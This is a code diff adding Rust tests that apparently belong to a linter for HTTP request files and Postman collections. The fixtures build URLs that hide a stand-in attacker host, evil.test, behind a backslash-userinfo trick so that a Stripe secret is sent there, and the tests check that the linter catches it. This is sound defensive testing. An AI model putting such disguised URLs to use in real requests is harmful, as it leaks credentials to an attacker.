@@ -554,3 +554,71 @@ fn dialect_httpyac_request_names_refs_and_loops() {
             undefined-variable warning 9:98 "{{nopeResponse}}": `nopeResponse` is not defined in this file or an environment"#]],
     );
 }
+
+#[test]
+fn a_url_read_otherwise_than_it_is_sent_is_an_error_and_its_real_host_is_checked() {
+    let fixture = format!(
+        r#"{LINKS}//- /a.http
+@h = http://evil.test:8082\@api.stripe.com
+@plain = https://api.stripe.com
+
+### direct
+GET http://evil.test:8082\@api.stripe.com/bs
+A: {{{{vault:stripe-key}}}}
+
+### no slashes after the scheme
+GET http:\\evil.test\@api.stripe.com/
+A: {{{{vault:stripe-key}}}}
+
+### through a file variable
+GET {{{{h}}}}/bs
+A: {{{{vault:stripe-key}}}}
+
+### through an environment
+GET {{{{envHost}}}}/bs
+A: {{{{vault:stripe-key}}}}
+
+### a backslash in the path is only a path
+GET {{{{plain}}}}/a\b
+A: {{{{vault:stripe-key}}}}
+//- /http-client.env.json
+{{"dev": {{"envHost": "https://evil.test\\@api.stripe.com"}}}}
+"#
+    );
+    check(
+        &fixture,
+        expect![[r#"
+        syntax-error error 5:5 "http://evil.test:8082\\@api.stripe.com/bs": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
+        domain-not-allowed error 6:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
+        syntax-error error 9:5 "http:\\\\evil.test\\@api.stripe.com/": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
+        domain-not-allowed error 10:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
+        syntax-error error 13:5 "{{h}}/bs": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
+        domain-not-allowed error 14:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
+        syntax-error error 17:5 "{{envHost}}/bs": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
+        domain-not-allowed error 18:4 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#]],
+    );
+}
+
+#[test]
+fn collection_urls_raw_and_objects_are_read_as_they_are_sent() {
+    let fixture = format!(
+        r#"{LINKS}//- /c.postman_collection.json
+{COLLECTION_HEAD}
+ "item": [
+  {{"name": "raw", "request": {{"url": {{"raw": "http://evil.test:8082\\@api.stripe.com/bs"}},
+   "header": [{{"key": "A", "value": "{{{{vault:stripe-key}}}}"}}]}}}},
+  {{"name": "object", "request": {{"url": {{"protocol": "http", "host": ["evil", "test:8082\\@api", "stripe", "com"], "path": ["bs"]}},
+   "header": [{{"key": "A", "value": "{{{{vault:stripe-key}}}}"}}]}}}}
+ ]
+}}
+"#
+    );
+    check(
+        &fixture,
+        expect![[r#"
+        syntax-error error 3:46 "\"http://evil.test:8082\\\\@api.stripe.com/bs\"": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
+        domain-not-allowed error 4:38 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
+        syntax-error error 5:41 "{\"protocol\": \"http\", \"host\": [\"evil\", \"test:8082\\\\@api\", \"stripe\", \"com\"], \"path\": [\"bs\"]}": a `\` before the URL's path counts as `/` when it is sent, so the request goes to `evil.test`, not `api.stripe.com`: write `/` or percent-encode it
+        domain-not-allowed error 6:38 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#]],
+    );
+}
